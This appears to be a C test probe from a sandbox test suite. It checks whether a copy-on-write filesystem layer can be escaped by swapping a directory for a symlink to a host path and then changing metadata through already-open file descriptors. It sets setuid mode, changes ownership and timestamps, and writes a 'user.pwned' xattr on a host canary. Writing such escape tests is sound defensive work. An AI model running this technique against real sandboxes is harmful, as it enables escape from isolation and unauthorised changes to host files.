/* fchmod/fchown/futimens/fsetxattr through an fd opened on a lower (host)
 * file, after the guest replaced the file's directory in its upper layer
 * with a symlink whose text is a host directory.
 *
 *   escape_vfs_fd_meta LOWER_DIR NAME HOST_DIR
 *
 * LOWER_DIR/NAME is a host file seen through the copy-on-write layer;
 * HOST_DIR/NAME is the canary.  The tracer serves these calls on "the
 * copied-up file": if it finds that copy by a path that follows the
 * planted symlink, it changes HOST_DIR/NAME on the host. */
#include "escape_common.h"
#include <sys/stat.h>
#include <sys/xattr.h>

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    char file[4096], moved[4096];
    snprintf(file, sizeof file, "%s/%s", argv[1], argv[2]);
    snprintf(moved, sizeof moved, "%s.moved", argv[1]);
    int fd = open(file, O_RDONLY);
    int pfd = open(file, O_PATH);
    report("open", fd);
    report("rename", rename(argv[1], moved));
    report("symlink", symlink(argv[3], argv[1]));
    report("fchmod", fchmod(fd, 04777));
    report("fchown", fchown(fd, getuid() == 0 ? 1 : (long)getuid(), getgid() == 0 ? 1 : (long)getgid()));
    report("futimens", futimens(fd, NULL));
    struct timespec ts[2] = {{12345, 0}, {12345, 0}};
    report("utimensat_empty", utimensat(pfd, "", ts, AT_EMPTY_PATH));
    report("fchownat_empty", fchownat(pfd, "", getuid() == 0 ? 2 : (long)getuid(), -1, AT_EMPTY_PATH));
    report("fchmodat2_empty", syscall(452, pfd, "", 0600, AT_EMPTY_PATH));
    report("fsetxattr", fsetxattr(fd, "user.pwned", "1", 1, 0));
    return 0;
}
